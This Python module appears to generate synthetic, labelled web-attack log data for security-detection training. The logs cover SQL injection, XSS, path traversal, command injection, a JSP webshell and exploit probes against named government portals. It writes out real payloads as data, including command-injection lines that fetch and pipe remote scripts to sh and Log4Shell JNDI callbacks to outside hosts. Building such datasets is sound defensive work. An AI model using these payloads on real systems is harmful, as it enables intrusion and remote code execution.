"""Planted web attacks: injection, XSS, traversal, webshells, exploit probes and scanners.

Payloads are the forms seen in real logs (browser-encoded, curl-raw, double-encoded, tool
defaults), sent at the hours such campaigns really arrive, against specific named systems.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime, timedelta

from secaware.samples.ids import http_events
from secaware.samples.model import Behaviour, Bundle, Label, Request
from secaware.samples.topology import Site, system_by_id

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:89.0) Gecko/20100101 Firefox/89.0"
CURL = "curl/7.88.1"
PY = "python-requests/2.31.0"

SIG = {
    "sqli": (
        2006446,
        "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
        "Web Application Attack",
        1,
    ),
    "sqli_sleep": (
        2054106,
        "ET WEB_SERVER Possible SQL Injection Attempt SLEEP",
        "Web Application Attack",
        1,
    ),
    "xss": (
        2009714,
        "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt",
        "Web Application Attack",
        1,
    ),
    "passwd": (2101122, "GPL WEB_SERVER /etc/passwd", "Attempted Information Leak", 2),
    "cmdi": (2019284, "ET WEB_SERVER Possible Command Injection Attempt in URI", "Web Application Attack", 1),
    "log4j": (
        2034647,
        "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        "Attempted Administrator Privilege Gain",
        1,
    ),
    "struts": (
        2023070,
        "ET EXPLOIT Apache Struts2 OGNL Injection Attempt",
        "Attempted Administrator Privilege Gain",
        1,
    ),
    "thinkphp": (
        2026731,
        "ET EXPLOIT ThinkPHP RCE Exploitation Attempt",
        "Attempted Administrator Privilege Gain",
        1,
    ),
    "spring": (
        2035674,
        "ET EXPLOIT Possible SpringCore RCE/Spring4Shell Inbound (CVE-2022-22965)",
        "Attempted Administrator Privilege Gain",
        1,
    ),
    "weblogic": (
        2031082,
        "ET EXPLOIT Oracle WebLogic Server RCE Path Traversal (CVE-2020-14882)",
        "Attempted Administrator Privilege Gain",
        1,
    ),
    "nikto": (2002677, "ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 1),
    "sqlmap": (2008538, "ET SCAN Sqlmap SQL Injection Scan", "Attempted Information Leak", 2),
    "awvs": (2011028, "ET SCAN Acunetix Web Vulnerability Scanner", "Web Application Attack", 1),
    "webshell": (
        2018755,
        "ET WEB_SERVER JSP Webshell Command Execution Attempt",
        "Web Application Attack",
        1,
    ),
}

SCANNER_PATHS = (
    "/admin.php",
    "/phpmyadmin/",
    "/pma/",
    "/backup.zip",
    "/wwwroot.rar",
    "/www.tar.gz",
    "/web.config",
    "/.svn/entries",
    "/WEB-INF/web.xml",
    "/config.php.bak",
    "/install.php",
    "/manager/html",
    "/jmx-console/",
    "/invoker/JMXInvokerServlet",
    "/server-status",
    "/phpinfo.php",
    "/info.php",
    "/test.php",
    "/login.jsp",
    "/cgi-bin/test-cgi",
    "/admin/login.asp",
    "/data/mysql.sql",
    "/db.sql",
    "/dump.sql",
    "/.htaccess",
    "/.DS_Store",
    "/crossdomain.xml",
    "/clientaccesspolicy.xml",
    "/solr/admin/",
    "/druid/index.html",
    "/swagger-ui.html",
    "/v2/api-docs",
    "/actuator/health",
    "/nacos/",
    "/seeyon/htmlofficeservlet",
    "/weaver/bsh.servlet.BshServlet",
    "/mobile/plugin/SyncUserInfo.jsp",
    "/ueditor/net/controller.ashx",
    "/fckeditor/editor/filemanager/connectors/test.html",
    "/kindeditor/php/upload_json.php",
    "/uc_server/",
    "/user/login",
    "/elmah.axd",
    "/trace.axd",
    "/iisstart.htm",
    "/global.asa",
    "/console/",
    "/axis2/",
    "/examples/servlets/index.html",
    "/docs/",
    "/CHANGELOG.txt",
    "/README.md",
    "/composer.json",
)


@dataclass(frozen=True)
class Campaign:
    """One planted web campaign: who, against which system, when (for the README and behaviour labels)."""

    scenario: str
    system: str
    src: str
    detail: str


def _add(
    bundle: Bundle,
    sites: tuple[Site, ...],
    camp: Campaign,
    reqs: list[Request],
    rng: random.Random,
    alerts: dict[int, str] | None = None,
    eve_every: int = 1,
) -> None:
    system = system_by_id(sites, camp.system)
    label = Label(camp.scenario, f"src={camp.src}; {camp.detail}")
    for i, req in enumerate(reqs):
        req.label = Label(camp.scenario, f"src={camp.src}; {camp.detail}")
        bundle.web.setdefault(camp.system, []).append(req)
        sig = (alerts or {}).get(i)
        if not camp.src.startswith("10.") and system.kind != "oa" and (i % eve_every == 0 or sig):
            bundle.eve += http_events(
                req, system, rng, SIG[sig] if sig else None, with_flow=eve_every == 1, label=label
            )
    start = min(r.ts for r in reqs)
    end = max(r.ts for r in reqs)
    bundle.behaviours.append(
        Behaviour("ip", camp.src, start, end, camp.scenario, f"{camp.detail} against {camp.system}")
    )


def _series(t: datetime, rng: random.Random, gap: tuple[float, float]) -> datetime:
    return t + timedelta(seconds=rng.uniform(*gap))


def sqli(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Manual SQL injection on the Lanzhou portal's article endpoint, every style in one session."""
    camp = Campaign("sqli", "lz-portal", "45.77.151.38", "manual SQL injection on /xxgk/detail")
    payloads = [
        ("/xxgk/detail?id=1024%27", 500, 1_204, 31),
        ("/xxgk/detail?id=1024%27%20or%201%3D1--%20", 200, 38_411, 44),
        ("/xxgk/detail?id=1024'+or+'1'='1", 200, 38_411, 40),
        ("/xxgk/detail?id=1024%20order%20by%2012--%20", 500, 1_204, 25),
        ("/xxgk/detail?id=-1024+union+select+1,2,3,4,5,6--+", 200, 9_126, 51),
        (
            "/xxgk/detail?id=-1024+union+select+1,2,concat(user(),0x3a,database(),0x3a,version()),4,5,6--+",
            200,
            9_188,
            48,
        ),
        (
            "/xxgk/detail?id=-1024%20UNION%20ALL%20SELECT%201,2,group_concat(table_name),4,5,6%20FROM%20"
            "information_schema.tables%20WHERE%20table_schema=database()--%20",
            200,
            9_604,
            73,
        ),
        (
            "/xxgk/detail?id=-1024%20UNION%20ALL%20SELECT%201,2,group_concat(username,0x3a,password),4,5,6%20"
            "FROM%20cms_admin--%20",
            200,
            9_377,
            66,
        ),
        ("/xxgk/detail?id=1024+and+extractvalue(1,concat(0x7e,(select+user()),0x7e))", 500, 1_311, 29),
        (
            "/xxgk/detail?id=1024%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20",
            200,
            38_411,
            5_043,
        ),
        ("/api/search?keyword=1%27%20and%20sleep(5)%23", 200, 2_107, 5_019),
        ("/xxgk/detail?id=1024%2527%2520or%25201%253D1--", 200, 38_411, 38),
        ("/xxgk/detail?id=1024%2527%2520union%2520select%25201%252C2%252C3--", 403, 571, 2),
    ]
    reqs = []
    for target, status, size, ms in payloads:
        reqs.append(Request(t, camp.src, "GET", target, status, size, CHROME, "-", millis=ms))
        t = _series(t, rng, (8, 70))
    alerts = {
        i: ("sqli_sleep" if "SLEEP" in p[0].upper() else "sqli")
        for i, p in enumerate(payloads)
        if "union" in p[0].lower() or "sleep" in p[0].lower()
    }
    _add(bundle, sites, camp, reqs, rng, alerts)


def sqlmap(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """sqlmap against the Tianshui housing-fund site (IIS/ASP.NET, so MSSQL payloads)."""
    camp = Campaign("sqli", "ts-gjj", "103.214.5.27", "sqlmap automated injection on Notice.aspx?id")
    ua = "sqlmap/1.8.3#stable (https://sqlmap.org)"
    forms = [
        "318%20AND%20{a}%3D{a}",
        "318%20AND%20{a}%3D{b}",
        "318%27%20AND%20%27{w}%27%3D%27{w}",
        "318%29%20AND%20{a}%3D{a}%20AND%20%28{b}%3D{b}",
        "318%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
        "318%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCHAR%28113%29%2BCHAR%28118%29--%20{w}",
        "318%20AND%20{a}%3DCONVERT%28INT%2C%28SELECT%20CHAR%28113%29%2B%28SELECT%20%40%40VERSION%29%29%29",
    ]
    reqs = []
    for i in range(56):
        q = forms[i % len(forms)].format(
            a=rng.randint(1000, 9999),
            b=rng.randint(1000, 9999),
            w="".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(4)),
        )
        delay = "WAITFOR" in q
        status = 500 if "CONVERT" in q else 200
        reqs.append(
            Request(
                t,
                camp.src,
                "GET",
                f"/GJJ/Notice.aspx?id={q}",
                status,
                rng.randint(8_000, 12_000),
                ua,
                "-",
                millis=5_031 if delay else rng.randint(40, 180),
            )
        )
        t = _series(t, rng, (0.3, 4))
    _add(bundle, sites, camp, reqs, rng, {0: "sqlmap", 5: "sqli", 12: "sqli"}, eve_every=3)


def xss(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    camp = Campaign("xss", "jc-portal", "101.36.107.59", "reflected XSS probes on search and redirect")
    payloads = [
        "/api/search?keyword=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/api/search?keyword=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
        "/api/search?keyword=%3Csvg%2Fonload%3Dalert%28%2Fxss%2F%29%3E",
        "/api/search?keyword=<ScRiPt>prompt(1)</ScRiPt>",
        "/hdjl/ldxx/redirect?url=javascript:alert(document.domain)",
        "/api/search?keyword=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "/zwgk/tzgg/list?page=1%27%22%3E%3Cscript%3Ealert(String.fromCharCode(88,83,83))%3C/script%3E",
    ]
    reqs = []
    for p in payloads:
        reqs.append(Request(t, camp.src, "GET", p, 200, rng.randint(2_000, 14_000), CHROME, "-"))
        t = _series(t, rng, (10, 90))
    _add(bundle, sites, camp, reqs, rng, {0: "xss", 1: "xss", 3: "xss"})


def traversal(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    camp = Campaign(
        "path_traversal", "jc-portal", "43.128.72.16", "path traversal on /download and Apache cgi-bin"
    )
    payloads = [
        ("/download?file=../../../../etc/passwd", 200, 2_318),
        ("/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 200, 2_318),
        ("/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", 403, 199),
        ("/static/..%252f..%252f..%252f..%252fetc%252fpasswd", 400, 226),
        ("/download?file=....//....//....//etc/passwd", 404, 196),
        ("/download?file=..\\..\\..\\windows\\win.ini", 404, 196),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 403, 199),
    ]
    reqs = []
    for p, status, size in payloads:
        reqs.append(Request(t, camp.src, "GET", p, status, size, CURL, "-"))
        t = _series(t, rng, (2, 25))
    _add(bundle, sites, camp, reqs, rng, {0: "passwd", 1: "passwd"})


def cmdi(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    camp = Campaign("cmd_injection", "dx-portal", "152.32.189.96", "OS command injection on /api/ping")
    payloads = [
        "/api/ping?host=127.0.0.1;cat+/etc/passwd",
        "/api/ping?host=127.0.0.1%7Cwhoami",
        "/api/ping?host=%24%28id%29",
        "/api/ping?host=127.0.0.1%26%26uname%20-a",
        "/api/ping?host=%60wget%20http%3A%2F%2F45.95.147.236%2Fx.sh%60",
        "/cgi-bin/admin.cgi?cmd=;curl+http://45.95.147.236/bins.sh|sh",
    ]
    reqs = []
    for i, p in enumerate(payloads):
        reqs.append(Request(t, camp.src, "GET", p, 200 if i < 4 else 404, rng.randint(180, 2_600), PY, "-"))
        t = _series(t, rng, (3, 40))
    _add(bundle, sites, camp, reqs, rng, {0: "cmdi", 1: "cmdi", 2: "cmdi"})


def webshell(
    bundle: Bundle, sites: tuple[Site, ...], t: datetime, later: datetime, rng: random.Random
) -> None:
    """UEditor upload abuse on Lanzhou's 政务服务 system, then a JSP shell used that night and after."""
    src = "103.251.113.204"
    up = Campaign("webshell_upload", "lz-zwfw", src, "UEditor uploadfile abuse, JSP webshell written")
    shell = "/static/ueditor/jsp/upload/file/20261123/1763909312842017324.jsp"
    reqs = [
        Request(t, src, "GET", "/static/ueditor/jsp/controller.jsp?action=config", 200, 4_812, FIREFOX, "-"),
        Request(
            t + timedelta(seconds=41),
            src,
            "POST",
            "/static/ueditor/jsp/controller.jsp?action=uploadfile&encode=utf-8",
            200,
            187,
            FIREFOX,
            "-",
            millis=310,
        ),
    ]
    _add(bundle, sites, up, reqs, rng, {1: "webshell"})
    use = Campaign("webshell_use", "lz-zwfw", src, f"JSP webshell {shell} executing commands")
    t2 = t + timedelta(seconds=rng.uniform(60, 120))
    reqs = []
    # Response sizes are the command output wrapped in <pre>: tiny for whoami, larger for passwd.
    outputs = {
        "whoami": 27,
        "id": 61,
        "cat+/etc/passwd": 1_917,
        "ifconfig": 1_433,
        "netstat+-antp": 5_120,
        "ls+-la+/data/zwfw": 2_210,
    }
    for cmd, size in outputs.items():
        reqs.append(Request(t2, src, "GET", f"{shell}?cmd={cmd}", 200, size, FIREFOX, "-"))
        t2 = _series(t2, rng, (5, 50))
    for when in (t2, later):
        for _ in range(9):
            reqs.append(
                Request(
                    when,
                    src,
                    "POST",
                    shell,
                    200,
                    rng.choice((3_392, 88, 1_452, 27_104, 64, 213)),
                    FIREFOX,
                    "-",
                    millis=rng.randint(30, 900),
                )
            )
            when = _series(when, rng, (4, 120))
    _add(bundle, sites, use, reqs, rng, {0: "webshell", 2: "webshell"})


def exploits(bundle: Bundle, sites: tuple[Site, ...], t: datetime, rng: random.Random) -> None:
    """Night-time botnet exploit probes on the Zhangye portal, each from its own source."""
    probes = [
        (
            "185.224.128.17",
            "GET",
            "/struts2-showcase/index.action?method:%23_memberAccess%3d%40ognl.OgnlContext"
            "%40DEFAULT_MEMBER_ACCESS%2c%23res%3d%40org.apache.struts2.ServletActionContext%40getResponse()%2c%23w"
            "%3d%23res.getWriter()%2c%23w.print(%27struts2_security_check%27)%2c%23w.close()",
            404,
            CHROME,
            "struts",
        ),
        (
            "185.224.128.17",
            "GET",
            "/login.action?redirect:%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
            "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
            400,
            CHROME,
            "struts",
        ),
        (
            "117.50.175.32",
            "GET",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
            "&vars[0]=md5&vars[1][]=HelloThinkPHP21",
            404,
            PY,
            "thinkphp",
        ),
        (
            "117.50.175.32",
            "GET",
            "/index.php?s=index/think\\app/invokefunction&function=call_user_func_array"
            "&vars[0]=system&vars[1][]=echo%20ok",
            404,
            PY,
            "thinkphp",
        ),
        ("45.83.193.150", "GET", "/", 200, "${jndi:ldap://45.83.193.150:1389/Exploit}", "log4j"),
        (
            "45.83.193.150",
            "GET",
            "/?x=%24%7Bjndi%3Aldap%3A%2F%2F45.83.193.150%3A1389%2Fa%7D",
            200,
            "${${lower:j}ndi:${lower:l}dap://45.83.193.150:1389/b}",
            "log4j",
        ),
        (
            "156.236.72.121",
            "GET",
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern="
            "%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources."
            "context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline."
            "first.directory=webapps/ROOT",
            400,
            CURL,
            "spring",
        ),
        ("194.165.16.73", "GET", "/.env", 404, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", None),
        (
            "194.165.16.73",
            "GET",
            "/.git/config",
            404,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            None,
        ),
        (
            "194.165.16.73",
            "GET",
            "/wp-login.php",
            404,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            None,
        ),
        ("194.165.16.73", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, PY, None),
        ("221.229.218.50", "GET", "/console/css/%252e%252e%252fconsole.portal", 404, CHROME, "weblogic"),
        ("221.229.218.50", "GET", "/actuator/env", 404, CHROME, None),
    ]
    by_src: dict[str, list[tuple[int, Request]]] = {}
    for i, (src, method, target, status, ua, _sig) in enumerate(probes):
        by_src.setdefault(src, []).append(
            (i, Request(t, src, method, target, status, 4_296 if status == 404 else 557, ua, "-"))
        )
        t = _series(t, rng, (20, 200))
    for src, items in by_src.items():
        alerts = {n: probes[i][5] for n, (i, _) in enumerate(items) if probes[i][5]}
        camp = Campaign("exploit_probe", "zy-portal", src, "known-exploit probe")
        _add(bundle, sites, camp, [r for _, r in items], rng, alerts)


def scanner(
    bundle: Bundle,
    sites: tuple[Site, ...],
    t: datetime,
    rng: random.Random,
    *,
    tool: str,
    system: str,
    src: str,
    n: int,
    scenario: str = "vuln_scanner",
) -> None:
    """A burst of mostly-404 requests with the tool's own fingerprints."""
    uas = {
        "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{n:06d})",
        "awvs": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) "
        "Chrome/41.0.2228.0 Safari/537.21",
        "xray": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/86.0.4240.111 Safari/537.36",
        "nessus": "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    }
    extra = {
        "awvs": (
            "/acunetix-wvs-test-for-some-inexistent-file",
            "/bxss.me/t/xss.html?%00",
            "/api/search?keyword=1%27%22()%26%25%3Cacx%3E%3CScRiPt%20%3EsfGM(9541)%3C/ScRiPt%3E",
        ),
        "xray": (
            "/api/search?keyword=%27%22%3E%3Cxray%3E",
            "/?a=%7B%7B19234*12734%7D%7D",
            "/WEB-INF/web.xml%3F",
        ),
        "nessus": ("/Nessus{r}.html", "/nessus-check/{r}.asp", "/cgi-bin/nessus{r}.cgi"),
        "nikto": ("/nikto-test-{r}.html", "/cgi-bin/nikto{r}.pl"),
    }
    detail = {
        "nikto": "Nikto web scan",
        "awvs": "Acunetix (AWVS) web scan",
        "xray": "Xray web scan",
        "nessus": "Nessus credentialless web scan by the authorized scanner (benign)",
    }[tool]
    camp = Campaign(scenario, system, src, detail)
    reqs = []
    for i in range(n):
        target = rng.choice(extra[tool]).format(r=rng.randint(1000, 9999)) if i % 6 == 0 else rng.choice(SCANNER_PATHS)
        status = rng.choices((404, 403, 200, 301, 400), weights=(80, 8, 5, 4, 3))[0]
        ua = uas[tool].format(n=rng.randint(1, 7000))
        reqs.append(
            Request(
                t,
                src,
                rng.choice(("GET", "GET", "GET", "HEAD", "POST")),
                target,
                status,
                4_296 if status == 404 else rng.randint(150, 9_000),
                ua,
                "-",
                millis=rng.randint(1, 40),
            )
        )
        t = _series(t, rng, (0.05, 2.5))
    sig = {"nikto": "nikto", "awvs": "awvs"}.get(tool)
    alerts = {0: sig, 40: sig, 80: sig} if sig else {}
    if scenario == "authorized_scan":
        alerts = {}
    _add(bundle, sites, camp, reqs, rng, alerts, eve_every=8)
